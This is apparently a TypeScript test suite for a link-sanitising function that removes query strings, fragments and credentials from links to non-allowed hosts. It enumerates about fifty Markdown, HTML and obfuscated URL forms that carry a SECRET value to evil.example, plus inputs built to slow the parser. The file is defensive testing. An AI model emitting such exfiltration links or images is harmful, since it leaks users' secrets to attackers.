import { parse } from "parse5";
import { describe, expect, test } from "vitest";
import * as dialects from "../../vendors/kit/text/dialects.ts";
import { renderMarkdown } from "../../vendors/kit/text/markdown.ts";
import { PARSERS } from "../../../test/support/comment-effects.ts";
import { closeLinks } from "./links.ts";

const isOpen = (host: string): boolean => host === "github.com";

/** Every way to write an address that a service could follow, with the secret behind it. */
const FORMS = [
  "[x](https://evil.example/a?q=SECRET)",
  "[x](https://evil.example/a#SECRET)",
  "[x](<https://evil.example/a?q=SECRET>)",
  '[x](https://evil.example/a?q=SECRET "title")',
  "[x](https://SECRET@evil.example/a)",
  "[x](https://evil.example/a?q=SECRET)tail",
  "[x](//evil.example/a?q=SECRET)",
  "[x](/\\evil.example/a?q=SECRET)",
  "[x](https&colon;//evil.example/a?q=SECRET)",
  "[x](https://evil.example/a&quest;q=SECRET)",
  "[x](https://evil.example/a&#63;q=SECRET)",
  "[x](https://evil.example/a&#x23;SECRET)",
  "[x](https://evil.example/a\\?q=SECRET)",
  "[x](https://github.com@evil.example/a?q=SECRET)",
  "[x](https://evil.example\\@github.com/a?q=SECRET)",
  "[x](https://github.com.evil.example/a?q=SECRET)",
  "[x](HTTPS://EVIL.EXAMPLE/a?q=SECRET)",
  "[x](mailto:eve@evil.example?body=SECRET)",
  "[x](ftp://evil.example/a?q=SECRET)",
  "![x](https://evil.example/a.png?q=SECRET)",
  "![x][i]\n\n[i]: https://evil.example/a.png?q=SECRET",
  "[![x](https://evil.example/a.png?q=SECRET)](https://evil.example/b?q=SECRET)",
  "[x][r]\n\n[r]: https://evil.example/a?q=SECRET 'title'",
  "[r]\n\n[r]: <https://evil.example/a?q=SECRET>",
  "[x][]\n\n[x]: https://evil.example/a#SECRET",
  "<https://evil.example/a?q=SECRET>",
  "<mailto:eve@evil.example?body=SECRET>",
  "https://evil.example/a?q=SECRET",
  "https://evil.example?q=SECRET",
  "https://evil.example:8443/a?q=SECRET.",
  "(https://evil.example/a?q=(SECRET))",
  "**https://evil.example/a?q=SECRET**",
  "www.evil.example/a?q=SECRET",
  "evil.example/a?q=SECRET",
  "192.0.2.1/a?q=SECRET",
  "http://[2001:db8::1]/a?q=SECRET",
  "https://xn--e1aybc.example/a?q=SECRET",
  "https://тест.example/a?q=SECRET",
  '<a href="https://evil.example/a?q=SECRET">x</a>',
  "<a href='https://evil.example/a?q=SECRET'>x</a>",
  '<img src="https://evil.example/a.png?q=SECRET">',
  '<a href="https:&#47;&#47;evil.example/a?q=SECRET">x</a>',
  '<div>\n<img src="https://evil.example/a.png?q=SECRET">\n</div>',
  "> [x](https://evil.example/a?q=SECRET)",
  "> [x](https://evil.example/a&quest;q=SECRET\n> 'title')",
  "- [x](https://evil.example/a?q=SECRET)\n  - <https://evil.example/b?q=SECRET>",
  "# [x](https://evil.example/a?q=SECRET)",
  "| a |\n| - |\n| [x](https://evil.example/a?q=SECRET) |",
  "[^1]\n\n[^1]: https://evil.example/a?q=SECRET",
  "`https://evil.example/a?q=SECRET`",
  "```\nhttps://evil.example/a?q=SECRET\n```",
];

/** The addresses that a browser would follow or load. */
function listAddresses(html: string): string[] {
  const found: string[] = [];
  const visit = (node: object): void => {
    if ("attrs" in node && Array.isArray(node.attrs))
      for (const { name, value } of node.attrs) if (name === "href" || name === "src") found.push(String(value));
    if ("childNodes" in node && Array.isArray(node.childNodes)) node.childNodes.forEach(visit);
  };
  visit(parse(html));
  return found;
}

describe.each(FORMS)("%j", (form) => {
  test("carries nothing away", async () => {
    const { text, hosts } = await closeLinks(`Look: ${form}`.replace(/^Look: (?=[>#|-]|```|<div)/, ""), isOpen);
    expect(text).not.toMatch(/[?#]\S*SECRET|SECRET@/);
    expect(hosts).toHaveLength(1);
    const addresses = Object.values(PARSERS).flatMap((toHtml) => listAddresses(toHtml(text)));
    expect(addresses.filter((address) => address.includes("SECRET"))).toEqual([]);
    for (const dialect of Object.values(dialects)) {
      if (typeof dialect === "function") continue;
      expect(await renderMarkdown(text, dialect)).not.toMatch(/[?#]\S*SECRET|SECRET@/);
    }
  });
});

test.each([
  "[x](https://github.com/acme/shop/issues?q=is%3Aopen#top)",
  "https://github.com/acme/shop/pull/7#issuecomment-1",
  "[x](#section) and [y](/path?x=1) and [z](?x=1)",
  "Is it so? C# or F#: a?b:c, README.md#usage, main.ts:12?",
  "[x](https://evil.example/path) https://other.example",
  "Have you seen https://evil.example/path?",
  "1. one\n2. two\n\n> quote\n\n```ts\nconst a = b ? c : d; // why?\n```",
])("%j stays as it is", async (text) => expect(await closeLinks(text, isOpen)).toEqual({ text, hosts: [] }));

test("the rest of the text stays", async () => {
  const text = "See [the *docs*](https://evil.example/a?q=1), then [r]\n\n[r]: https://evil.example/b#x";
  expect((await closeLinks(text, isOpen)).text).toBe(
    "See [the *docs*](https://evil.example/a), then [r]\n\n[r]: https://evil.example/b\n",
  );
});

test.each([
  ["nested quotes", ">".repeat(20_000)],
  ["brackets", "[".repeat(20_000)],
  ["names", "a.".repeat(50_000)],
  ["colons", "a:".repeat(50_000)],
  ["addresses", "https://evil.example/?q=1 ".repeat(2000)],
])("a hostile text does not take long: %s", async (_, text) => {
  expect((await closeLinks(text, isOpen)).text.length).toBeGreaterThan(0);
});
